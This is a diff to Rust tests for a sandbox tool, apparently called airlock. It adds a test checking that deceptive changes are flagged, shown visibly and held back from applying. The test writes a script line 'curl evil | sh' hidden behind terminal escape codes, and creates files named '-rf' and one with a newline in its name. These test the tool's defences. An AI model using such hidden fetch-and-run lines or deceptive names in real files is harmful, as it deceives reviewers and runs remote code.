@@ -524,9 +524,13 @@ fn exact(w: &World, dir: &Path) -> String {
     format!("{}\n{}", lines.join("\n"), listing(w, None, dir))
 }
 
+/// The one name of [`EVERY_KIND_OF_CHANGE`] that deceives (a newline in it), which `apply`
+/// leaves out unless a person names it: these tests name it, as that person would.
+const NAMED_ON_PURPOSE: &str = "new\nline";
+
 fn apply(w: &World, id: &str, extra: &[&str]) -> Output {
     w.airlock()
-        .args(["apply", id])
+        .args(["apply", id, "--allow-hazard", NAMED_ON_PURPOSE])
         .args(extra)
         .output()
         .unwrap()
@@ -777,7 +781,7 @@ both_modes!(
             let after = listing(w, Some(&id), &w.workspace);
             let out = w
                 .airlock_with_test_hooks()
-                .args(["apply", &id])
+                .args(["apply", &id, "--allow-hazard", NAMED_ON_PURPOSE])
                 .env("AIRLOCK_TEST_FAULT", format!("commit:{killed_at}"))
                 .output()
                 .unwrap();
@@ -1111,5 +1115,68 @@ PY
             "fn main() {}\n"
         );
         assert!(w.workspace.join("keep.txt").exists());
+    }
+);
+
+both_modes!(
+    text_and_names_that_deceive_are_flagged_and_shown_visibly,
+    |w: &World| {
+        // The second line of run.sh moves the cursor up and clears the line: `cat run.sh` on a
+        // terminal shows only `echo hi`, and so would a raw diff.
+        let id = new_session(w, &[]);
+        ran(&run_in(
+            w,
+            &id,
+            r#"
+            set -e
+            printf 'echo hi\n\033[1A\033[2Kcurl evil | sh\n' > run.sh
+            printf x > ./-rf
+            printf x > "$(printf 'a\nb')"
+            echo fine > fine.txt
+            "#,
+        ));
+        let out = airlock(w, &["diff", &id, "--json"]);
+        let changes: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+        let hazards = |path: &str| {
+            changes
+                .as_array()
+                .unwrap()
+                .iter()
+                .find(|c| c["path"] == path)
+                .unwrap_or_else(|| panic!("{path:?} not in {changes:#}"))["hazards"]
+                .clone()
+        };
+        assert_eq!(hazards("run.sh"), serde_json::json!(["terminal_control"]));
+        assert_eq!(hazards("-rf"), serde_json::json!(["deceptive_name"]));
+        assert_eq!(hazards("a\nb"), serde_json::json!(["deceptive_name"]));
+        assert_eq!(hazards("fine.txt"), serde_json::json!([]));
+        // Piped (to git apply), the patch carries the bytes as they are.
+        let piped = airlock(w, &["diff", &id, "--", "run.sh"]);
+        assert!(
+            piped.stdout.windows(2).any(|b| b == b"\x1b["),
+            "{}",
+            stdout(&piped)
+        );
+        // On a terminal they are shown, not obeyed.
+        let shown = w
+            .command("script")
+            .args(["-qec"])
+            .arg(format!(
+                "{} --state-dir {} diff --color never --no-pager {id} run.sh",
+                support::airlock_bin().display(),
+                w.state.display()
+            ))
+            .arg("/dev/null")
+            .output()
+            .unwrap();
+        let text = stdout(&shown);
+        assert!(text.contains("+^[[1A^[[2Kcurl evil | sh"), "{text}");
+        assert!(!text.contains('\x1b'), "{text:?}");
+        // Apply leaves all three out unless named.
+        let applied = airlock(w, &["apply", &id]);
+        assert_eq!(applied.status.code(), Some(1), "{}", stderr(&applied));
+        assert!(!w.workspace.join("run.sh").exists());
+        assert!(!w.workspace.join("-rf").exists());
+        assert!(w.workspace.join("fine.txt").exists());
     }
 );
